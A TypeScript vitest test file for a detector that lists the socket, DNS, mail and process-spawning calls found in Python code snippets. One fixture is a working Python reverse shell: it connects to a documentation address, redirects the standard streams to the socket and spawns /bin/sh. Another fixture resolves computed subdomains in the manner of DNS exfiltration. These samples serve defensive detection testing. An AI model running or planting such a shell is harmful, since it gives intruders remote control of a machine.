import { describe, expect, test } from 'vitest';
import { saidByPython } from '../../../testing/python-facts.ts';

describe('a raw connection is a socket', () => {
  test.each([
    [
      'connect',
      `import socket\ns = socket.socket()\ns.connect(('quay.invalid', 4433))`,
      ['socket.socket.connect | quay.invalid:4433'],
    ],
    [
      'an address in a variable',
      `from socket import socket\nADDRESS = ('203.0.113.7', 4433)\nsocket().connect_ex(ADDRESS)`,
      ['socket.socket.connect_ex | 203.0.113.7:4433'],
    ],
    [
      'with',
      `import socket\nwith socket.socket() as s:\n    s.connect(('quay.invalid', 4433))`,
      ['socket.socket.connect | quay.invalid:4433'],
    ],
    [
      'create_connection',
      `import socket\nsocket.create_connection(('quay.invalid', 4433))`,
      ['socket.create_connection | quay.invalid:4433'],
    ],
    [
      'asyncio',
      `import asyncio\nasync def f():\n    await asyncio.open_connection('quay.invalid', 4433)`,
      ['asyncio.open_connection | quay.invalid:4433'],
    ],
    [
      'datagrams',
      `import socket\nsocket.socket().sendto(b'x', ('quay.invalid', 53))`,
      ['socket.socket.sendto | quay.invalid:53'],
    ],
    [
      'a host that is not constant',
      `import socket\nsocket.create_connection((host, 4433))`,
      ['socket.create_connection | *:4433'],
    ],
    ['nothing constant', `import socket\nsocket.create_connection(address)`, ['socket.create_connection | ']],
  ])('%s', (_name, code, said) => {
    expect(saidByPython(code, 'socket')).toEqual(said);
  });
});

test('a shell whose streams are a socket is three facts', () => {
  const code = `
import socket, os, pty
s = socket.socket()
s.connect(('203.0.113.7', 4433))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
pty.spawn('/bin/sh')`;
  expect(saidByPython(code, 'socket', 'process')).toEqual([
    'socket.socket.connect | 203.0.113.7:4433',
    'os.dup2 of a socket |  | shell',
    'pty.spawn | /bin/sh | shell',
  ]);
});

test('streams that go to a file are no shell', () => {
  expect(saidByPython(`import os\nlog = open('harbor.log', 'w')\nos.dup2(log.fileno(), 1)`, 'process')).toEqual([]);
});

describe('a name that is looked up is a request', () => {
  test.each([
    [
      'a computed name',
      `import socket\nsocket.gethostbyname(f'{part}.ferry.invalid')`,
      ['socket.gethostbyname | *.ferry.invalid'],
    ],
    [
      'a resolver',
      `import dns.resolver\ndns.resolver.resolve(data + '.ferry.invalid', 'TXT')`,
      ['dns.resolver.resolve | *.ferry.invalid'],
    ],
    ['any name', `import socket\nsocket.getaddrinfo(host, 443)`, ['socket.getaddrinfo | ']],
  ])('%s', (_name, code, said) => {
    expect(saidByPython(code, 'request')).toEqual(said);
  });
});

test.each([
  ['a mail server', `import smtplib\nsmtplib.SMTP('mail.quay.invalid', 587)`, ['smtplib.SMTP | mail.quay.invalid:587']],
  ['a file server', `import ftplib\nftplib.FTP('quay.invalid')`, ['ftplib.FTP | quay.invalid']],
])('%s is a request', (_name, code, said) => {
  expect(saidByPython(code, 'request')).toEqual(said);
});

test.each([
  ['a server that listens', `import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8000))\ns.listen()`],
  ['a database', `import sqlite3\nsqlite3.connect('harbor.db')`],
  ['a signal of that name', `button.connect(on_click)`],
])('%s is no socket', (_name, code) => {
  expect(saidByPython(code, 'socket', 'request')).toEqual([]);
});
